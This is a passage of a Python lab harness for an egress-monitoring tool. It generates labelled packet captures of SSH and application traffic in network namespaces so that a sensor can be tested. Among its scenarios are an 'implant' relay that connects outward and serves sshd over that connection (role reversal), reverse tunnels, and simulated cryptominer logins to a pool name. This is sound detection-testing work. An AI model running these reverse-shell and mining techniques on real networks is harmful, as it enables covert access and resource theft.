    fds = {0: c.fileno(), c.fileno(): 1}
    open_ = {0, c.fileno()}
    while open_:
        for fd in select.select(list(open_), [], [])[0]:
            data = os.read(fd, 65536)
            if not data:
                open_.discard(fd)
                if fd == 0:
                    c.shutdown(socket.SHUT_WR)
                else:
                    os.close(1)
                continue
            os.write(fds[fd], data)
"""


def sc_role_reversal(ctx, suite):
    """The cluster opens TCP to the outside and serves SSH on it; the external
    side logs in over that connection and types."""
    relay = f"{ctx.lab.workdir}/relay.py"
    with open(relay, "w") as f:
        f.write(RELAY)
    proxy = f"{sys.executable} {relay} listen-stdio {ROLE_REVERSAL_PORT}"
    inner = ctx.ssh(suite, host="cluster.lab", password=True, opts=["-o", f"ProxyCommand={proxy}"])
    s = ctx.pty("external", inner)
    ctx.lab.wait_listen("external", ROLE_REVERSAL_PORT)
    ctx.sleep(0.3)
    ctx.spawn(
        "cluster",
        [sys.executable, relay, "connect-exec", HOSTS["external"][0], str(ROLE_REVERSAL_PORT),
         "/usr/sbin/sshd", "-i", "-e", "-f", f"{ctx.lab.workdir}/cluster/sshd_config"],
        "implant",
    )
    ctx.password(s, PASSWORD)
    ctx.shell_session(s)


def sc_curl(ctx, urls, resolver="internal", lookups=(), curl_args=()):
    """Name lookups through the cluster's resolver, then curl (which resolves
    again through the system resolver and sends SNI / Host), with
    `curl_args` before the URL."""
    if resolver != "internal":
        ctx.lab.set_resolver(resolver)
    try:
        for name in lookups:
            ctx.run_in("cluster", ["getent", "ahostsv4", name])
            ctx.sleep(0.2, 0.5)
        for url in urls:
            ctx.run_in("cluster", ["curl", "-sS", "-k", "-o", "/dev/null", *curl_args, url])
            ctx.sleep(0.3, 0.8)
    finally:
        if resolver != "internal":
            ctx.lab.set_resolver("internal")


def sc_miner(ctx, host, port, family, tls=False):
    argv = [sys.executable, os.path.join(HERE, "services.py"), "miner", host, str(port), family,
            "--seed", str(ctx.lab.seed)]
    if tls:
        argv += ["--tls", host]
    ctx.run_in("cluster", argv, timeout=30)
    ctx.sleep(0.3)


def sc_jsonrpc_app(ctx, host, port):
    ctx.run_in("cluster", [sys.executable, os.path.join(HERE, "services.py"), "app", host, str(port),
                           "--seed", str(ctx.lab.seed)], timeout=30)
    ctx.sleep(0.3)


# ---- catalog -----------------------------------------------------------------

BASE_TRUTH = {
    "outer_auth": "success",
    "remote_forward": False,
    "reverse_tunnel": False,
    "reverse_session": False,
    "reverse_login": None,
    "typing_side": None,
    "typing_host": None,
    "proxyjump": False,
    "local_forward": False,
    "dynamic_forward": False,
    "file_transfer": None,
    "keepalive_only": False,
    "role_reversed": False,
    "inner_handshake": None,
    "dest_class": "external",
}


APP_TRUTH = {
    "app_proto": None,
    "dns_names": [],
    "dns_cnames": {},
    "resolver": "internal",
    "sni": None,
    "alpn": [],
    "client_hello_split": False,
    "http_host": None,
    "http_method": None,
    "http_uri": None,
    "mining_protocol": None,
    "mining_wallet": None,
    "mining_agent": None,
    "dest_class": "external",
}
CURL_ALPN = ["h2", "http/1.1"]


def catalog(seed=1):
    out = []

    def add(name, func, params, truth, server_role="external", server_port=22,
            client_impl="openssh", inner=None):
        t = dict(BASE_TRUTH)
        t.update(truth)
        out.append({
            "name": name, "kind": "ssh", "func": func, "params": params, "truth": t,
            "server_addr": HOSTS[server_role][0], "server_port": server_port,
            "client_impl": client_impl, "inner_suite": inner,
            "suite": params.get("suite"),
        })

    def add_app(name, func, params, truth, server, port, client_impl):
        t = dict(APP_TRUTH)
        t.update(truth)
        out.append({
            "name": name, "kind": "app", "func": func, "params": params, "truth": t,
            "server_addr": SERVICE_ADDRS[server], "server_port": port,
            "client_impl": client_impl, "inner_suite": None, "suite": None,
        })

    core = ["chacha20", "aes128gcm", "aes128ctr-etm", "aes256ctr-hmac"]
    typing_fwd = {"typing_side": "client", "typing_host": "cluster"}
    rev = {"remote_forward": True, "reverse_tunnel": True}
    rev_login = dict(rev, reverse_session=True, inner_handshake="reverse")
    for suite in core:
        add(f"fwd_interactive-{suite}", sc_fwd_interactive, {"suite": suite}, typing_fwd)
        add(f"rev_login_ok-{suite}", sc_reverse, {"suite": suite, "mode": "ok"},
            dict(rev_login, reverse_login="success", typing_side="server", typing_host="external"),
            inner=suite)
        add(f"rev_login_fail-{suite}", sc_reverse, {"suite": suite, "mode": "fail"},
            dict(rev_login, reverse_login="failure"), inner=suite)
        add(f"rev_idle-{suite}", sc_reverse, {"suite": suite, "mode": "idle"},
            dict(rev, keepalive_only=True))
    # Tunnelled session with a different inner cipher than the outer one.
    for suite, inner in (("aes128gcm", "chacha20"), ("chacha20", "aes256ctr-hmac")):
        add(f"rev_login_ok_inner_{inner}-{suite}", sc_reverse,
            {"suite": suite, "mode": "ok", "inner_suite": inner},
            dict(rev_login, reverse_login="success", typing_side="server", typing_host="external"),
            inner=inner)
    # Dropbear's client opens the tunnel; the login back lands on a Dropbear server.
    db = {"client": "dropbear", "inner_target": "dropbear"}
    add("dropbear_rev_login_ok-chacha20", sc_reverse, dict(db, suite="chacha20", mode="ok"),
        dict(rev_login, reverse_login="success", typing_side="server", typing_host="external"),
        client_impl="dropbear", inner="chacha20")
    add("dropbear_rev_login_fail-aes128ctr-hmac", sc_reverse,
        dict(db, suite="aes128ctr-hmac", mode="fail", inner_suite="chacha20"),
        dict(rev_login, reverse_login="failure"), client_impl="dropbear", inner="chacha20")
    add("dropbear_rev_idle-aes256ctr-hmac", sc_reverse, dict(db, suite="aes256ctr-hmac", mode="idle"),
        dict(rev, keepalive_only=True), client_impl="dropbear")
    add("local_forward-aes128gcm", sc_local_forward, {"suite": "aes128gcm"}, {"local_forward": True})
    add("dynamic_forward-chacha20", sc_dynamic_forward, {"suite": "chacha20"}, {"dynamic_forward": True})
    add("proxyjump-chacha20", sc_proxyjump, {"suite": "chacha20"},
        dict(typing_fwd, proxyjump=True, inner_handshake="forward"), server_role="bastion", inner="chacha20")
    add("proxyjump-aes128ctr-etm", sc_proxyjump, {"suite": "aes128ctr-etm"},
        dict(typing_fwd, proxyjump=True, inner_handshake="forward"), server_role="bastion",
        inner="aes128ctr-etm")
    add("scp_upload-aes128ctr-etm", sc_scp, {"suite": "aes128ctr-etm", "direction": "upload"},
        {"file_transfer": "upload"})
    add("scp_download-aes256ctr-hmac", sc_scp, {"suite": "aes256ctr-hmac", "direction": "download"},
        {"file_transfer": "download"})
    add("scp_legacy_upload-chacha20", sc_scp, {"suite": "chacha20", "direction": "upload", "legacy": True},
        {"file_transfer": "upload"})
    add("scp_legacy_download-aes128gcm", sc_scp,
        {"suite": "aes128gcm", "direction": "download", "legacy": True}, {"file_transfer": "download"})
    add("port443_interactive-chacha20", sc_fwd_interactive, {"suite": "chacha20", "port": 443},
        typing_fwd, server_port=443)
    add("port2222_interactive_password-aes128gcm", sc_fwd_interactive,
        {"suite": "aes128gcm", "port": 2222, "password": True}, typing_fwd, server_port=2222)
    add("fwd_auth_fail-chacha20", sc_fwd_auth_fail, {"suite": "chacha20"}, {"outer_auth": "failure"})
    add("internal_git_clone-chacha20", sc_internal_git, {"suite": "chacha20"},
        {"dest_class": "internal", "file_transfer": "download"}, server_role="internal")
    add("role_reversal-chacha20", sc_role_reversal, {"suite": "chacha20"},
        {"role_reversed": True, "typing_side": "server", "typing_host": "external"},
        server_port=ROLE_REVERSAL_PORT)

    # Issue: app-layer identification. Names resolve only inside the lab.
    www, shared = "www.example-lab.test", ["a.shared-lab.test", "b.shared-lab.test"]
    add_app("https_sni", sc_curl, {"urls": [f"https://{www}/"]},
            {"app_proto": "tls", "dns_names": [www], "sni": www, "alpn": CURL_ALPN}, "www", 443, "curl")
    add_app("https_cname_chain", sc_curl, {"urls": ["https://cdn.example-lab.test/"]},
            {"app_proto": "tls", "dns_names": ["cdn.example-lab.test"], "dns_cnames": dict(DNS_CNAMES),
             "sni": "cdn.example-lab.test", "alpn": CURL_ALPN}, "www", 443, "curl")
    add_app("https_shared_address", sc_curl,
            {"urls": [f"https://{shared[1]}/"], "lookups": [shared[0]]},
            {"app_proto": "tls", "dns_names": shared, "sni": shared[1], "alpn": CURL_ALPN}, "www", 443, "curl")
    add_app("https_tls12_certificate", sc_curl, {"urls": [f"https://{www}/"], "curl_args": ["--tls-max", "1.2"]},
            {"app_proto": "tls", "dns_names": [www], "sni": www, "alpn": CURL_ALPN, "tls_version": "TLS 1.2",
             "cert_subject": f"CN={www}", "cert_names": [www, "*.example-lab.test", "*.shared-lab.test"]},
            "www", 443, "curl")
    add_app("tls_client_hello_split", sc_curl, {"urls": ["https://split.example-lab.test/"]},
            {"app_proto": "tls", "dns_names": ["split.example-lab.test"], "sni": "split.example-lab.test",
             "alpn": CURL_ALPN, "client_hello_split": True}, "split", 443, "curl")
    add_app("http_host", sc_curl, {"urls": [f"http://{www}/index.html"]},
            {"app_proto": "http", "dns_names": [www], "http_host": www, "http_method": "GET",
             "http_uri": "/index.html"}, "www", 80, "curl")
    add_app("dns_external_resolver", sc_curl, {"urls": [f"http://{www}/status.json"], "resolver": "external"},
            {"app_proto": "http", "dns_names": [www], "resolver": "external", "http_host": www,
             "http_method": "GET", "http_uri": "/status.json"}, "www", 80, "curl")
    wallets = services.wallets(seed)
    pool = "pool.example-lab.test"
    for family, port, proto in (("stratum", 3333, "stratum"), ("xmrig", 443, "xmrig-login"),
                                ("ethproxy", 8008, "ethproxy")):
        add_app(f"mining_{family}-{port}", sc_miner, {"host": pool, "port": port, "family": family},
                {"app_proto": "stratum", "dns_names": [pool], "mining_protocol": proto,
                 "mining_wallet": wallets[family],
                 # ethproxy logins carry no agent string.
                 "mining_agent": None if family == "ethproxy" else services.AGENTS[family]},
                "pool", port, f"lab {family} client")
    tls_pool = "gulf.moneroocean.stream"
    add_app("mining_pool_tls_sni-443", sc_miner, {"host": tls_pool, "port": 443, "family": "xmrig", "tls": True},
            {"app_proto": "tls", "dns_names": [tls_pool], "sni": tls_pool, "mining_protocol": "pool-name"},
            "tlspool", 443, "lab xmrig client (TLS)")
    add_app("jsonrpc_login_benign-8080", sc_jsonrpc_app, {"host": "api.example-lab.test", "port": 8080},
            {"app_proto": None, "dns_names": ["api.example-lab.test"]}, "api", 8080, "lab JSON-RPC client")
    for i, sc in enumerate(out):
        sc["index"] = i
    return out


# ---- running -----------------------------------------------------------------


def _alarm(_sig, _frame):
    raise ScenarioTimeout("scenario took too long")


def outer_connection(summary, sc):
    server = sc["server_addr"]
    for c in summary["tcp"]:
        if c["client"] == HOSTS["cluster"][0] and c["server"] == server and c["server_port"] == sc["server_port"]:
            return c
    return None


def check_app_observed(sc, conn, dns):
    t = sc["truth"]
    problems = []
    tls = conn.get("tls")
    if t["sni"] is not None:
        if not tls:
            problems.append("no TLS ClientHello in the capture")
        else:
            if tls["sni"] != t["sni"]:
                problems.append(f"SNI {tls['sni']}, expected {t['sni']}")
            if tls["alpn"] != t["alpn"]:
                problems.append(f"ALPN {tls['alpn']}, expected {t['alpn']}")
            if (tls["client_hello_segments"] > 1) != t["client_hello_split"]:
                problems.append(f"ClientHello in {tls['client_hello_segments']} segments")
    answered = {a["name"] for m in dns if m["response"] for a in m["answers"]}
    for name in t["dns_names"]:
        if name not in answered:
            problems.append(f"no DNS answer for {name} in the capture")
    return problems


def check_observed(sc, conn, dns=()):
    """Problems with what the capture shows, compared with what was asked for."""
    problems = []
    if conn is None:
        return ["outer connection not found in the capture"]
    if sc["kind"] == "app":
        return check_app_observed(sc, conn, dns)
    ssh = conn.get("ssh") or {}
    if not ssh.get("originator_banner") or not ssh.get("responder_banner"):
        problems.append("SSH banners missing")
    cipher, mac = SUITES[sc["suite"]]
    if ssh.get("cipher_c2s") != cipher or ssh.get("cipher_s2c") != cipher:
        problems.append(f"negotiated cipher {ssh.get('cipher_c2s')}, expected {cipher}")
    if mac and ssh.get("mac_c2s") != mac:
        problems.append(f"negotiated MAC {ssh.get('mac_c2s')}, expected {mac}")
    if ssh.get("ssh_client_is_originator") is not None:
        if ssh["ssh_client_is_originator"] == sc["truth"]["role_reversed"]:
            problems.append("SSH roles in the capture do not match the scenario")
    return problems


def start_live(lab, live, name):
    """Starts the command under test (e.g. the live sensor) on the capture
    port, in the router namespace, before the scenario's traffic."""
    d = os.path.join(lab.outdir, "live")
    os.makedirs(d, exist_ok=True)
    out = os.path.join(d, f"{name}.eve.json")
    cmd = live["cmd"].format(iface=CAPTURE_PORT, out=out, scenario=name, outdir=lab.outdir)
    p = lab.spawn("router", ["sh", "-c", "exec " + cmd], f"{name}.live")
    time.sleep(live["ready"])
    if p.poll() is not None:
        raise LabError(f"live command ended at once with {p.returncode}: {cmd}")
    return p, {"command": cmd, "output": os.path.relpath(out, lab.outdir)}


def stop_live(lab, p, info):
    """SIGTERM, as a service manager would; the exit code and time are recorded."""
    t0 = time.monotonic()
    try:
        os.killpg(p.pid, signal.SIGTERM)
    except ProcessLookupError:
        pass
    try:
        p.wait(timeout=15)
    except subprocess.TimeoutExpired:
        info["problem"] = "did not exit within 15 s of SIGTERM"
    lab.stop(p)
    info["exit_code"] = p.returncode
    info["exit_seconds"] = round(time.monotonic() - t0, 2)
    return info


def run_scenario(lab, sc, timeout, live=None):
    name = sc["name"]
    pcap = os.path.join(lab.outdir, f"{name}.pcap")
    if os.path.exists(pcap):
        os.unlink(pcap)
    log(f"scenario {name}")
    t0 = time.monotonic()
    started = datetime.datetime.now(datetime.timezone.utc)
    cap = lab.start_capture(pcap, name)
    ctx = Ctx(lab, sc)
    error = None
    live_proc = live_info = None
    if live:
        try:
            live_proc, live_info = start_live(lab, live, name)
        except LabError as e:
            error = f"LabError: {e}"
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, timeout)
    try:
        if error is None:
            sc["func"](ctx, **sc["params"])
    except (LabError, DriveError, ScenarioTimeout, subprocess.TimeoutExpired, OSError) as e:
        error = f"{type(e).__name__}: {e}"
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
        ctx.close()
        lab.settle()
        if live_proc is not None:
            stop_live(lab, live_proc, live_info)
        stats = lab.stop_capture(cap, name)
    duration = round(time.monotonic() - t0, 2)
    summary = pcapinfo.summarize(pcap)
    conn = outer_connection(summary, sc)
    problems = [error] if error else []
    problems += check_observed(sc, conn, summary["dns"])
    if stats.get("dropped_by_kernel"):
        problems.append(f"tcpdump dropped {stats['dropped_by_kernel']} packets")
    if stats.get("captured") != stats.get("received_by_filter"):
        problems.append(f"tcpdump wrote {stats.get('captured')} of {stats.get('received_by_filter')} packets")
    if conn is not None and not conn.get("closed"):
        problems.append("outer connection has no FIN or RST in the capture")
    if live_info and (live_info.get("exit_code") != 0 or live_info.get("problem")):
        problems.append(f"live command: exit {live_info.get('exit_code')} {live_info.get('problem', '')}")
    cipher, mac = SUITES[sc["suite"]] if sc["suite"] else (None, None)
    inner = SUITES.get(sc["inner_suite"]) if sc["inner_suite"] else None
    entry = {
        "scenario": name,
        "kind": sc["kind"],
        "file": os.path.basename(pcap),
        "bytes": os.path.getsize(pcap),
        "frames": summary["frames"],
        "started_utc": started.isoformat(timespec="seconds"),
        "duration_s": duration,
        "client_impl": sc["client_impl"],
        "cipher": cipher,
        "mac": mac,
        "inner_cipher": inner[0] if inner else None,
        "inner_mac": inner[1] if inner else None,
        "outer": None if conn is None else {
            "proto": "tcp",
            "client": conn["client"],
            "client_port": conn["client_port"],
            "server": conn["server"],
            "server_port": conn["server_port"],
            "packets": conn["packets"],
        },
        "truth": sc["truth"],
        "typed_commands": ctx.typed,
        "live": live_info,
        "observed": {"ssh": (conn or {}).get("ssh"), "tls": (conn or {}).get("tls"),
                     "dns": summary["dns"], "tcp_connections": len(summary["tcp"]), "tcpdump": stats},
    }
    return entry, problems


README = """# egresswatch lab captures

Made by `tests/lab/run.sh` (egresswatch repository): real OpenSSH {openssh} and
Dropbear {dropbear} in Linux network namespaces, captured with tcpdump on the router's
cluster-facing port (what an egress span port sees). Ethernet frames, classic pcap,
snaplen unlimited, NIC offloads off (segments are wire-sized, MTU 1500), IPv6 off.
No added latency (the kernel here has no netem): round-trip times are sub-millisecond.

Hosts: cluster 10.10.0.10 (the capture side), external 198.51.100.10 (sshd on 22, 443,
2222), internal-git 10.20.0.10 (allowlisted internal), bastion 203.0.113.10.
The test user logs in with an ed25519 key (forward sessions, tunnel clients) or a typed
password (logins back through the tunnel, port 2222, role reversal, failures: three
wrong passwords). Typing goes through a pty, one key every 80-250 ms (seeded, seed {seed}).
The login shell prompt is `[lab]$ `.

`manifest.json` has one entry per capture (`captures`) and the scenarios that failed
(`failures`); `manifest.csv` is the same flattened. Per capture:
- `outer`: the 5-tuple of the connection the scenario is about (the cluster is always
  the TCP client; in `role_reversal` it is nevertheless the SSH *server*).
- `cipher`/`mac`: what the outer SSH connection was forced to use (checked against the
  KEXINITs in the capture: `observed.ssh`); `inner_cipher`/`inner_mac` for the
  session carried inside (reverse login, ProxyJump).
- `truth`: `outer_auth` success/failure; `remote_forward` (tcpip-forward requested,
  `ssh -R`); `reverse_tunnel` (same: a remote forward exists); `reverse_session` (an
  SSH session came back through the tunnel, inner server on the cluster side);
  `reverse_login` success/failure/null; `typing_side` client/server/null in terms of
  the outer TCP connection (server = keystrokes arrive from the responder and are
  echoed by the cluster) and `typing_host`; `proxyjump` (client-first inner handshake,
  `inner_handshake` forward vs reverse); `local_forward` (-L), `dynamic_forward` (-D);
  `file_transfer` upload/download (upload = cluster to outside); `keepalive_only`
  (tunnel idle with ServerAliveInterval=2 / dbclient -K 2 for 15 s); `role_reversed`;
  `dest_class` external/internal.
- `typed_commands`: what was typed in the interactive session (for timing checks).
- `logs/`: pty transcripts and server logs.

Application captures (`kind: "app"`; issue: app-layer identification) have another
`truth`: `app_proto` (tls, http, stratum, or null for the benign JSON-RPC service),
`dns_names` (the names the client looked up that lead to the outer server),
`dns_cnames` (alias -> target in the answers), `resolver` (internal 10.20.0.53, allowlisted, or
external 198.51.100.53), `sni` and `alpn` of the ClientHello, `client_hello_split`
(path MTU 300 towards 192.0.2.11: the ClientHello spans several segments), `http_host`,
`http_method`, `http_uri`, `mining_protocol` (stratum, xmrig-login, ethproxy, or
pool-name for TLS to a name on the mining-pool list), `mining_wallet`, `mining_agent`.
The pool and the clients are the lab's own Python (`services.py`), speaking Stratum v1
(configure, subscribe, extranonce.subscribe, authorize, notify, set_difficulty, submit),
the XMRig `login` dialect (login, job, submit, keepalived) and ethproxy
(eth_submitLogin, eth_getWork, eth_submitHashrate, eth_submitWork, compact JSON) as the
real miners send them; no real miner is packaged in Debian or PyPI. HTTPS is
`openssl s_server` with a self-signed test certificate; the resolvers are dnsmasq (TTL
300). `observed.tls` and `observed.dns` are read back from the pcap.

| capture | bytes | frames | seconds | cipher | truth summary |
| --- | ---: | ---: | ---: | --- | --- |
{rows}
"""


def truth_summary(t):
    if "app_proto" in t:
        bits = [f"app_proto={t['app_proto'] or 'unknown'}", "dns=" + "+".join(t["dns_names"])]
        for k in ("sni", "http_host", "mining_protocol"):
            if t[k]:
                bits.append(f"{k}={t[k]}")
        if t["client_hello_split"]:
            bits.append("client_hello_split")
        if t["resolver"] != "internal":
            bits.append(f"resolver={t['resolver']}")
        return ", ".join(bits)
    bits = []
    for k in ("remote_forward", "reverse_session", "proxyjump", "local_forward", "dynamic_forward",
              "keepalive_only", "role_reversed"):
        if t[k]:
            bits.append(k)
    if t["reverse_login"]:
        bits.append(f"reverse_login={t['reverse_login']}")
    if t["typing_side"]:
        bits.append(f"typing={t['typing_side']}")
    if t["file_transfer"]:
        bits.append(f"transfer={t['file_transfer']}")
    if t["outer_auth"] != "success":
        bits.append(f"auth={t['outer_auth']}")
    if t["dest_class"] != "external":
        bits.append(t["dest_class"])
    return ", ".join(bits)


def flatten(entry):
    row = {k: v for k, v in entry.items() if k not in ("outer", "truth", "observed", "typed_commands")}
    for k, v in (entry["outer"] or {}).items():
        row[f"outer_{k}"] = v
    for k, v in entry["truth"].items():
        if isinstance(v, list):
            v = ";".join(v)
        elif isinstance(v, dict):
            v = ";".join(f"{a}>{b}" for a, b in v.items())
        row[k] = v
    row["live"] = (entry.get("live") or {}).get("exit_code")
    ssh = entry["observed"]["ssh"] or {}
    row["client_banner"] = ssh.get("originator_banner")
    row["server_banner"] = ssh.get("responder_banner")
    return row


def write_outputs(outdir, entries, failures, seed, elapsed):
    manifest = {
        "generated_utc": datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="seconds"),
        "seed": seed,
        "elapsed_s": round(elapsed, 1),
        "topology": {role: h[0] for role, h in HOSTS.items()},
        "capture_point": "router port facing the cluster (c0)",
        "captures": entries,
        "failures": failures,
    }
    with open(os.path.join(outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    rows = [flatten(e) for e in entries]
    if rows:
        fields = []
        for r in rows:
            for k in r:
                if k not in fields:
                    fields.append(k)
        with open(os.path.join(outdir, "manifest.csv"), "w", newline="") as f:
            w = csv.DictWriter(f, fieldnames=fields)
            w.writeheader()
            w.writerows(rows)
    openssh = run(["ssh", "-V"], check=False).stderr.strip()
    dropbear = run(["dropbear", "-V"], check=False).stderr.strip().splitlines()
    table = "\n".join(
        f"| {e['file']} | {e['bytes']} | {e['frames']} | {e['duration_s']} | {e['cipher'] or '-'}"
        f"{' + ' + e['mac'] if e['mac'] else ''} | {truth_summary(e['truth'])} |"
        for e in entries
    )
    if failures:
        table += "\n\nFailed scenarios (no entry above): " + ", ".join(f["scenario"] for f in failures)
    with open(os.path.join(outdir, "README.md"), "w") as f:
        f.write(README.format(openssh=openssh, dropbear=dropbear[0] if dropbear else "?", seed=seed, rows=table))


def previous_entries(outdir, rerun):
    """Captures of earlier runs into the same directory that this run does
    not redo, so the matrix can be made in parts with one manifest."""
    try:
        with open(os.path.join(outdir, "manifest.json")) as f:
            old = json.load(f).get("captures", [])
    except (OSError, ValueError):
        return []
    return [e for e in old if e.get("scenario") not in rerun
            and os.path.exists(os.path.join(outdir, e.get("file", "")))]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("scenarios", nargs="*", help="names or name prefixes (default: all)")
    ap.add_argument("--list", action="store_true", help="list the scenarios and exit")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--scenario-timeout", type=float, default=40.0)
    ap.add_argument("--max-seconds", type=float, default=900.0, help="stop starting scenarios after this")
    ap.add_argument("--live-cmd", help="command run on the capture port during each scenario and ended with "
                    "SIGTERM after it ({iface}, {out}, {scenario}, {outdir} are filled in), e.g. "
                    "'egresswatch capture --interface {iface} --eve {out}'")
    ap.add_argument("--live-ready", type=float, default=2.0, help="seconds to give the live command to start")
    args = ap.parse_intermixed_args()
    cat = catalog(args.seed)
    if args.list:
        for sc in cat:
            print(sc["name"])
        return 0
    if not args.outdir:
        ap.error("OUTDIR is required")
    if os.geteuid() != 0:
        print("lab: needs root (network namespaces, sshd, tcpdump)", file=sys.stderr)
        return 2
    chosen = [sc for sc in cat if not args.scenarios or any(sc["name"].startswith(p) for p in args.scenarios)]
    if not chosen:
        ap.error("no scenario matches")
    outdir = os.path.abspath(args.outdir)
    os.makedirs(outdir, exist_ok=True)

    def on_signal(sig, _frame):
        raise SystemExit(128 + sig)

    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, on_signal)
    lab = Lab(outdir, args.seed)
    entries, failures = previous_entries(outdir, {sc["name"] for sc in chosen}), []
    t0 = time.monotonic()
    try:
        lab.cleanup_stale()
        lab.setup()
        log(f"topology up in {time.monotonic() - t0:.1f}s (namespaces {lab.tag}*)")
        for sc in chosen:
            if time.monotonic() - t0 > args.max_seconds:
                failures.append({"scenario": sc["name"], "problems": ["not run: --max-seconds reached"]})
                continue
            live = {"cmd": args.live_cmd, "ready": args.live_ready} if args.live_cmd else None
            entry, problems = run_scenario(lab, sc, args.scenario_timeout, live)
            if problems:
                log(f"  FAILED {sc['name']}: {'; '.join(problems)}")
                # Kept for debugging, out of the way of consumers of the manifest.
                os.makedirs(os.path.join(outdir, "failed"), exist_ok=True)
                os.replace(os.path.join(outdir, entry["file"]), os.path.join(outdir, "failed", entry["file"]))
                failures.append({"scenario": sc["name"], "problems": problems, "entry": entry})
            else:
                log(f"  ok {entry['file']} {entry['bytes']} bytes, {entry['duration_s']}s")
                entries.append(entry)
                order = {sc["name"]: i for i, sc in enumerate(cat)}
                entries.sort(key=lambda e: order.get(e["scenario"], len(order)))
            write_outputs(outdir, entries, failures, args.seed, time.monotonic() - t0)
    finally:
        lab.cleanup()
        write_outputs(outdir, entries, failures, args.seed, time.monotonic() - t0)
    log(f"done: {len(entries)} captures, {len(failures)} failed, {time.monotonic() - t0:.0f}s")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
